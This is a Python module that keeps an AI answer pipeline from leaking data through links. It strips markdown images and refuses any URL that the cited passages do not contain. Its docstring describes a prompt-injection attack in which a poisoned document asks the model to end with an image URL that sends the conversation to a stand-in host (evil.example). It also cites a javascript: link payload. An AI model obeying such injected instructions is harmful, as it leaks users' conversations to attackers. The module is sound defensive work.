"""No answer carries an image, or a URL its sources do not contain.

A poisoned document can ask the model to end its answer with a markdown image
whose URL carries the conversation (``![](https://evil.example/?q=<question>)``):
rendering it would send the data off without a click. So, in every answer:

- markdown images are removed, whatever their URL (answers never show images;
  the Content-Security-Policy would block external ones anyway);
- a link or bare URL stays only if the very URL appears in the passages: while
  streaming, any passage given to the model; in the final answer, a cited one.
  A markdown link that fails keeps its text, a bare URL becomes "(link removed)";
- a link's target is judged as a browser will read it: entities (``&#58;``) and
  backslash escapes decoded, tabs and line breaks dropped, ``\\`` read as ``/``. So
  ``[x](javascript&#58;…)`` is a javascript: link (refused), not a relative one;
- reference definitions (``[1]: javascript:…`` starting a line) are broken up (``\\[1]:``,
  which Markdown shows as the same text): they would turn the ``[n]`` markers, or any
  bracketed word, into links to wherever they say.

Which passages vouch for a URL is the caller's choice: the pipeline leaves out the
passages the ingestion scan flagged (kb.guard.passages), so an exfiltration URL a
hostile document holds is refused even when the model repeats it exactly.

URLs are compared exactly (after trimming trailing punctuation), so an allowed
address with data appended is a different, refused URL.

``LinkGuard`` applies this to a stream: text that could still turn into a link
(an unclosed ``[``, a URL not yet ended by a space) is held back until it is
complete, so no part of a refused URL ever reaches the reader.
"""

from __future__ import annotations

import html
import re
from collections.abc import Iterable

REMOVED = "(link removed)"

# A URL: scheme, protocol-relative or www-prefixed, up to whitespace or markdown/HTML
# punctuation that cannot be part of it here.
_URL = r"(?:(?:https?|ftp):)?//[^\s<>()\[\]\"'`]+|www\.[^\s<>()\[\]\"'`]+"
_URL_RE = re.compile(_URL, re.IGNORECASE)
_IMAGE_RE = re.compile(r"!\[([^\]\n]*)\]\(\s*<?([^)\s>]*)>?(?:\s+\"[^\"]*\")?\s*\)")
_LINK_RE = re.compile(r"(?<!!)\[([^\]\n]*)\]\(\s*<?([^)\s>]*)>?(?:\s+\"[^\"]*\")?\s*\)")
_AUTOLINK_RE = re.compile(r"<((?:https?|ftp)://[^\s<>]+)>", re.IGNORECASE)
_HTML_MEDIA_RE = re.compile(r"<\s*(?:img|image|picture|source|video|audio|iframe)\b[^>]*>?",
                            re.IGNORECASE)  # fmt: skip
# "[label]:" opening a line (the label may run over lines, not over a blank one).
_REFERENCE_RE = re.compile(r"^([ ]{0,3})\[(?=(?:[^\]\n]|\n(?![ \t]*\n)){0,999}\]:)", re.MULTILINE)
_ESCAPED = re.compile(r"\\([!-/:-@\[-`{-~])")
_INVISIBLE = re.compile(r"[\x00-\x20\x7f]")  # what browsers drop from (or around) a URL
_SCHEME = re.compile(r"[a-z][a-z0-9+.-]*:")
_TRAILING = ".,;:!?'\")]}*_"
_SCHEME_PREFIXES = ("https://", "http://", "ftp://", "www.", "//")
_HOLD_LIMIT = 2000  # characters: a stream is never held back longer than this


def _normalised(url: str) -> str:
    return url.rstrip(_TRAILING).lower()


def urls_in(texts: Iterable[str]) -> frozenset[str]:
    """Every URL the given texts contain (normalised), what answers may repeat."""
    return frozenset(_normalised(m.group()) for text in texts for m in _URL_RE.finditer(text))


def _allowed(url: str, allowed: frozenset[str]) -> bool:
    return bool(url) and _normalised(url) in allowed


def link_target(destination: str, *, escapes: bool = True) -> str:
    """A markdown link's destination as a browser will follow it (lower case); with
    ``escapes=False`` as a renderer that ignores backslash escapes in URLs leaves it."""
    if escapes:
        destination = _ESCAPED.sub(r"\1", destination)
    decoded = html.unescape(destination)
    return _INVISIBLE.sub("", decoded).replace("\\", "/").lower()


def _relative(destination: str) -> bool:
    """A link to this site (no scheme, not protocol-relative, not a bare host), however
    the renderer reads backslashes."""
    return not any(
        _SCHEME.match(target) or target.startswith(("//", "www."))
        for target in (link_target(destination), link_target(destination, escapes=False))
    )


def links_strip(text: str, allowed: frozenset[str], *, at_line_start: bool = True) -> str:
    """``text`` without images, reference definitions and URLs outside ``allowed``.

    ``at_line_start``: whether ``text`` starts a line (a stream's later pieces may not).
    """
    text = _HTML_MEDIA_RE.sub("", text)
    text = _IMAGE_RE.sub("", text)
    text = _REFERENCE_RE.sub(
        lambda m: m.group() if m.start() == 0 and not at_line_start else m.group(1) + "\\[",
        text,
    )

    def link(match: re.Match[str]) -> str:
        label, url = match.group(1), match.group(2)
        if _relative(url):
            return match.group()  # a relative link (to this site): nothing leaves
        return match.group() if _allowed(link_target(url), allowed) else label

    # Links first, with a placeholder for the kept ones so the bare-URL pass skips them.
    kept: list[str] = []

    def keep(match: re.Match[str]) -> str:
        result = link(match)
        if result == match.group():
            kept.append(result)
            return f"\x00{len(kept) - 1}\x00"
        return result

    text = _LINK_RE.sub(keep, text)
    text = _AUTOLINK_RE.sub(lambda m: m.group() if _allowed(m.group(1), allowed) else REMOVED, text)

    def bare(match: re.Match[str]) -> str:
        url = match.group()
        core = url.rstrip(_TRAILING)
        if _allowed(core, allowed):
            return url
        return REMOVED + url[len(core) :]

    text = _URL_RE.sub(bare, text)
    return re.sub(r"\x00(\d+)\x00", lambda m: kept[int(m.group(1))], text)


class LinkGuard:
    """``links_strip`` for a stream: ``feed`` returns what can be shown now, ``flush``
    the rest at the end."""

    def __init__(self, allowed: frozenset[str]) -> None:
        self.allowed = allowed
        self._held = ""
        self._line = ""  # what was shown of the current line (a definition needs its start)

    def feed(self, text: str) -> str:
        pending = self._held + text
        cut = _hold_from(pending)
        if len(pending) - cut > _HOLD_LIMIT:
            cut = len(pending)
        return self._release(pending, cut)

    def flush(self) -> str:
        return self._release(self._held, len(self._held))

    def _release(self, pending: str, cut: int) -> str:
        self._held = pending[cut:]
        if not cut:
            return ""
        at_line_start = len(self._line) <= 3 and not self._line.strip(" ")
        shown = links_strip(pending[:cut], self.allowed, at_line_start=at_line_start)
        self._line = (self._line + shown).rsplit("\n", 1)[-1][-4:]
        return shown


def _hold_from(text: str) -> int:
    """Where the part that may still become a link or an image starts (len: nothing)."""
    cut = len(text)
    # An unclosed "[" (a link label or "![" in progress), or "](" whose ")" is not here yet.
    bracket = text.rfind("[")
    if bracket != -1:
        tail = text[bracket:]
        closed = "]" in tail and (
            not tail.split("]", 1)[1].startswith("(") or ")" in tail.split("]", 1)[1]
        )
        if not closed or tail.endswith("]"):
            cut = bracket - 1 if bracket > 0 and text[bracket - 1] == "!" else bracket
    if text.endswith("!"):
        cut = min(cut, len(text) - 1)
    # An HTML tag not closed yet ("<img src=…"): it may carry a URL. (A "<" before a
    # space or a digit opens no tag: "< 5 days" is not held.)
    angle = text.rfind("<")
    if angle > text.rfind(">") and re.match(r"<(?:[A-Za-z/!?]|$)", text[angle:]):
        cut = min(cut, angle)
    # The last word, if it is or may become a URL (no whitespace after it yet).
    word_start = max(text.rfind(c) for c in " \n\t(<") + 1
    word = text[word_start:].lower().lstrip("\"'`*_")
    finished = any(c in word for c in ")]>\"'`")  # a URL cannot go on past these
    if (
        word
        and not finished
        and (
            any(p in word for p in ("://", "www.", "//"))
            or any(p.startswith(word[: len(p)]) for p in _SCHEME_PREFIXES if len(word) < len(p))
        )
    ):
        cut = min(cut, word_start)
    return cut
